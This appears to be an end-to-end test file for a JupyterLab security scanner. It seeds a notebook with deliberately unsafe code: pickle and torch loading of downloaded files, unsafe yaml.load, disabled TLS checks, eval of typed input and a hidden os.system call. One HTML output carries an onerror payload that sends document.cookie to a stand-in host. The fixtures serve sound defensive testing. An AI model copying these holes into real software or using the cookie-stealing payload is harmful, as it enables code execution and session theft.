/** Unsafe code in a notebook as one finds it: what is said of it, and every way to mend it. */
import type { IJupyterLabPageFixture } from '@jupyterlab/galata';
import {
  expect,
  finding,
  notebook,
  open,
  picture,
  run,
  save,
  saved,
  source,
  test
} from './support';

const DOWNLOAD =
  '!wget -q https://models.example.net/churn/model.pkl -O model.pkl';
const UNPICKLE =
  "import pickle\n\nwith open('model.pkl', 'rb') as file:\n    model = pickle.load(file)";
const WEIGHTS =
  "import torch\n\nweights = torch.load('encoder.pt', weights_only=False)";
const CONFIG =
  "import yaml\n\nwith open('config.yaml') as file:\n    config = yaml.load(file, Loader=yaml.Loader)";
const LABELS =
  "import requests\n\nlabels = requests.get('https://data.example.net/labels.json', verify=False).json()";
const TYPED = "ranges = eval(input('Ranges: '))";
const HIDDEN = 'import os\nos.system("sh run.sh")';
const DEMO =
  'import gradio as gr\n\ndemo = gr.Interface(model.predict, "text", "label")\ndemo.launch(share=True)';
const BEACON = `<img src="missing.png" onerror="fetch('https://metrics.example.net/c?d=' + document.cookie)">`;
const CARD = `<div><b>Model card</b>\n${BEACON}\n<p>Accuracy 0.93</p></div>`;
const PROSE = 'work in progress: ask Kim about the\nfor x in )(';

function example() {
  const content = notebook(
    DOWNLOAD,
    "import pandas as pd\n\nframe = pd.read_csv('customers.csv')",
    UNPICKLE,
    WEIGHTS,
    CONFIG,
    LABELS,
    TYPED,
    'HTML(card)',
    HIDDEN,
    DEMO,
    PROSE
  );
  content.cells[7].outputs = [
    {
      output_type: 'display_data',
      metadata: {},
      data: { 'text/html': CARD, 'text/plain': '<HTML object>' }
    }
  ];
  content.cells[8].metadata = { jupyter: { source_hidden: true } };
  return content;
}

const PICKLE = 'Downloaded in cell 1, loaded with pickle.load in cell 3';
const TORCH = 'torch.load runs what the file tells it to';
const YAML = 'yaml.load without a safe loader';
const TLS = 'Certificate check switched off';
const EVAL = 'What is typed in is run as Python';
const OUTPUT = 'An onerror handler: a script that reads cookies in an output';
const FOLDED = 'Risky code in a cell whose source is hidden';
const GRADIO = 'Gradio app shared on a public address';

/** The panel's rows as they are read: severity, what, where. */
function rows(page: IJupyterLabPageFixture): Promise<string[]> {
  return page.locator('.jp-Mlsecops-finding').evaluateAll(nodes =>
    nodes.map(node => {
      const text = (name: string) =>
        node.querySelector(`.jp-Mlsecops-${name}`)?.textContent;
      const severity = node
        .querySelector('.jp-Mlsecops-shape')
        ?.getAttribute('data-severity');
      return `${severity} | ${text('title')} | ${text('place')}`;
    })
  );
}

/** Open the page of the finding whose message is given. */
async function details(page: IJupyterLabPageFixture, message: string) {
  const row = finding(page, new RegExp(message.replace(/[.()]/g, '\\$&')));
  await row.click();
  await row.getByRole('button', { name: 'Details' }).click();
  return page.locator('.jp-Mlsecops-page');
}

/** The whole notebook in the shared model. */
function content(page: IJupyterLabPageFixture): Promise<any> {
  return page.evaluate(() => {
    const panel = window.jupyterapp.shell.currentWidget as any;
    return panel.content.model.sharedModel.toJSON();
  });
}

/** The lines of the active cell that the cursor's selection covers. */
function selection(page: IJupyterLabPageFixture) {
  return page.evaluate(() => {
    const view = (window.jupyterapp.shell.currentWidget as any).content;
    const { editor } = view.activeCell;
    const { start, end } = editor.getSelection();
    return [
      view.activeCellIndex,
      view.activeCell.model.sharedModel
        .getSource()
        .slice(editor.getOffsetAt(start), editor.getOffsetAt(end))
    ];
  });
}

test('every finding says what, how bad and where', async ({
  page,
  tmpPath
}) => {
  await open(page, `${tmpPath}/train.ipynb`, example());
  expect(await rows(page)).toEqual([
    `critical | ${PICKLE} | cell 3, line 4`,
    `high | ${TORCH} | cell 4, line 3`,
    `high | ${YAML} | cell 5, line 4`,
    `high | ${TLS} | cell 6, line 3`,
    `high | ${EVAL} | cell 7, line 1`,
    `high | ${OUTPUT} | cell 8, output`,
    `high | ${FOLDED} | cell 9, line 2`,
    `high | ${GRADIO} | cell 10, line 4`
  ]);
  // A long title is read whole: nothing of it is cut off.
  const cut = await page
    .locator('.jp-Mlsecops-title')
    .evaluateAll(nodes =>
      nodes
        .filter(node => node.scrollHeight > node.clientHeight + 1)
        .map(node => node.textContent)
    );
  expect(cut).toEqual([]);
  await picture(page, 'code-panel');

  // What could not be read is said, and one gets there.
  const gaps = page.locator('.jp-Mlsecops-missing li');
  await expect(gaps).toHaveText([
    'cell 11, lines 1-2: it is not valid Python, so its code was not assessed.'
  ]);
  await gaps.getByRole('button', { name: 'cell 11, lines 1-2' }).click();
  await expect.poll(() => selection(page)).toEqual([10, '']);
});

test('the way of a file through the notebook, step by step', async ({
  page,
  tmpPath
}) => {
  await open(page, `${tmpPath}/chain.ipynb`, example());
  const pane = await details(page, PICKLE);
  await expect(pane.locator('h2')).toHaveText(PICKLE);
  await expect(pane).toContainText('A pickle is a program');
  await expect(pane.locator('ol li')).toHaveText([
    'cell 1, line 1 · Downloaded here',
    'cell 3, line 4 · Used here'
  ]);
  await expect(pane.getByRole('link')).toHaveText([
    'About this rule',
    'CWE-502',
    'OWASP ML06:2023',
    'ATLAS AML.T0011.000'
  ]);
  await picture(page, 'code-chain');
  await pane.getByRole('button', { name: 'cell 1, line 1' }).click();
  await expect.poll(() => selection(page)).toEqual([0, DOWNLOAD]);
  await picture(page, 'code-chain-jump');
  await pane.locator('ol').getByRole('button', { name: 'cell 3' }).click();
  await expect.poll(() => selection(page)).toEqual([2, 'pickle.load(file)']);
});

test('all that is safe, and nothing else, with one undo', async ({
  page,
  tmpPath
}) => {
  await open(page, `${tmpPath}/safe.ipynb`, example());
  const before = await content(page);
  await page.getByRole('button', { name: 'Fix 4 safe…' }).click();
  const dialog = page.locator('.jp-Dialog');
  await expect(dialog.locator('.jp-Mlsecops-diff mark').first()).toHaveText(
    ', verify=False'
  );
  await expect(dialog.locator('li')).toHaveText([
    "cell 9: Show the cell's source"
  ]);
  await picture(page, 'code-safe');
  await dialog.getByRole('button', { name: 'Fix 4 findings' }).click();
  await expect.poll(() => source(page, 9)).toContain('share=False');

  const fixed = JSON.parse(JSON.stringify(before));
  fixed.cells[5].source = LABELS.replace(', verify=False', '');
  fixed.cells[7].outputs[0].data['text/html'] = CARD.replace(
    BEACON,
    '<img src="missing.png">'
  );
  fixed.cells[8].metadata.jupyter = {};
  fixed.cells[9].source = DEMO.replace('share=True', 'share=False');
  expect(await content(page)).toEqual(fixed);
  await expect
    .poll(() => rows(page))
    .toEqual([
      `critical | ${PICKLE} | cell 3, line 4`,
      `high | ${TORCH} | cell 4, line 3`,
      `high | ${YAML} | cell 5, line 4`,
      `high | ${EVAL} | cell 7, line 1`
    ]);
  await expect(page.locator('.jp-Mlsecops-missing li')).toHaveCount(1);
  await picture(page, 'code-safe-done');

  await page.getByRole('button', { name: 'Undo', exact: true }).click();
  await expect.poll(() => content(page)).toEqual(before);
  await expect(page.locator('.jp-Mlsecops-finding')).toHaveCount(8);
});

test('a fix that wants a look is seen before it is made, then saved', async ({
  page,
  tmpPath
}) => {
  const path = `${tmpPath}/review.ipynb`;
  await open(page, path, example());
  const safe = TYPED.replace('eval', 'ast.literal_eval');

  // From the row it is shown first, and may be left.
  const row = finding(page, /safe loader/);
  await row.click();
  await row.getByRole('button', { name: 'Use yaml.safe_load…' }).click();
  const dialog = page.locator('.jp-Dialog');
  await expect(dialog.locator('.jp-Mlsecops-diff-added')).toHaveText(
    '+    config = yaml.safe_load(file)'
  );
  await picture(page, 'code-review');
  await dialog.getByRole('button', { name: 'Cancel' }).click();
  expect(await source(page, 4)).toBe(CONFIG);
  await row.getByRole('button', { name: 'Use yaml.safe_load…' }).click();
  await dialog.getByRole('button', { name: 'Apply' }).click();
  await expect.poll(() => source(page, 4)).toContain('yaml.safe_load(file)');
  await expect(row).toHaveCount(0);

  // On its page it is in sight already.
  const pane = await details(page, EVAL);
  await expect(pane.locator('.jp-Mlsecops-diff')).toContainText(safe);
  await expect(pane).toContainText('it may change what the code does');
  await picture(page, 'code-page');
  await pane.getByRole('button', { name: /literal_eval$/ }).click();
  await expect.poll(() => source(page, 6)).toBe(`import ast\n${safe}`);
  await expect(pane).toHaveCount(0);

  await save(page);
  await expect
    .poll(() => rows(page))
    .toEqual([
      `critical | ${PICKLE} | cell 3, line 4`,
      `high | ${TORCH} | cell 4, line 3`,
      `high | ${TLS} | cell 6, line 3`,
      `high | ${OUTPUT} | cell 8, output`,
      `high | ${FOLDED} | cell 9, line 2`,
      `high | ${GRADIO} | cell 10, line 4`
    ]);
  const { cells } = await saved(page, path);
  expect([cells[4].source, cells[6].source].map(String)).toEqual([
    CONFIG.replace(
      'yaml.load(file, Loader=yaml.Loader)',
      'yaml.safe_load(file)'
    ),
    `import ast\n${safe}`
  ]);
});

test('one of several ways, chosen on the page', async ({ page, tmpPath }) => {
  await open(page, `${tmpPath}/ways.ipynb`, example());
  const pane = await details(page, GRADIO);
  const ways = pane.getByRole('group').filter({ has: page.locator('button') });
  await expect(ways.locator('button')).toHaveText([
    'Set share=False',
    'Ask for a name and password from GRADIO_USER and GRADIO_PASSWORD'
  ]);
  await expect(ways.locator('mark')).toHaveText(['True', 'False', /auth=/]);
  await picture(page, 'code-ways');
  await page.theme.setDarkTheme();
  await picture(page, 'code-ways-dark');
  await ways.nth(1).getByRole('button').click();
  await expect.poll(() => source(page, 9)).toContain('GRADIO_PASSWORD');
  await run(page, 'mlsecops:undo-last-fix');
  await expect.poll(() => source(page, 9)).toBe(DEMO);
});

test('what acts in an output goes, or the whole output', async ({
  page,
  tmpPath
}) => {
  await open(page, `${tmpPath}/output.ipynb`, example());
  const before = await content(page);
  const bar = page.locator('.jp-Mlsecops-bar');
  await bar.scrollIntoViewIfNeeded();
  await picture(page, 'code-output');
  const html = async () =>
    (await content(page)).cells[7].outputs[0]?.data['text/html'];
  await bar.getByRole('button', { name: 'Remove what acts' }).click();
  await expect.poll(html).toBe(CARD.replace(BEACON, '<img src="missing.png">'));
  await expect(bar).toHaveCount(0);
  await run(page, 'mlsecops:undo-last-fix');
  await expect.poll(html).toBe(CARD);

  const pane = await details(page, OUTPUT);
  await picture(page, 'code-output-page');
  await pane.getByRole('button', { name: 'Clear this output' }).click();
  await expect.poll(html).toBeUndefined();
  await run(page, 'mlsecops:undo-last-fix');
  await expect.poll(() => content(page)).toEqual(before);
});

test('a look at a hidden cell leaves the notebook as it is', async ({
  page,
  tmpPath
}) => {
  await open(page, `${tmpPath}/hidden.ipynb`, example());
  const before = await content(page);
  const row = finding(page, /source is hidden/);
  await row.click();
  await expect
    .poll(() => selection(page))
    .toEqual([8, 'os.system("sh run.sh")']);
  await expect(page.locator('.jp-Cell').nth(8)).toContainText('os.system');
  await picture(page, 'code-hidden');
  expect(await content(page)).toEqual(before);

  // Unfolded by hand it is shown for good: once saved, it is no finding any more.
  await page.evaluate(() => {
    const panel = window.jupyterapp.shell.currentWidget as any;
    panel.content.widgets[8].inputHidden = true;
    panel.content.widgets[8].inputHidden = false;
  });
  expect((await content(page)).cells[8].metadata.jupyter).toBeUndefined();
  await save(page);
  await expect(row).toHaveCount(0);
});

test('a hidden cell is shown by its fix', async ({ page, tmpPath }) => {
  await open(page, `${tmpPath}/folded.ipynb`, example());
  const row = finding(page, /source is hidden/);
  await row.click();
  await row.getByRole('button', { name: "Show the cell's source" }).click();
  await expect(row).toHaveCount(0);
  expect((await content(page)).cells[8].metadata.jupyter).toEqual({});
});

test('a conversion is offered, and taken by nobody else', async ({
  page,
  tmpPath
}) => {
  await open(page, `${tmpPath}/convert.ipynb`, example());
  const pane = await details(page, TORCH);
  const fix = pane.getByRole('group', { name: /^Keep the weights/ });
  await expect(fix).toContainText('It takes a step of yours');
  await expect(fix).toContainText('save_file(torch.load');
  await fix.scrollIntoViewIfNeeded();
  await picture(page, 'code-conversion');
  await fix.getByRole('button').click();
  await expect
    .poll(() => source(page, 3))
    .toContain('safetensors.torch.load_file(');
  await picture(page, 'code-converted');
  await page.getByRole('button', { name: 'Undo', exact: true }).click();
  await expect.poll(() => source(page, 3)).toBe(WEIGHTS);
});
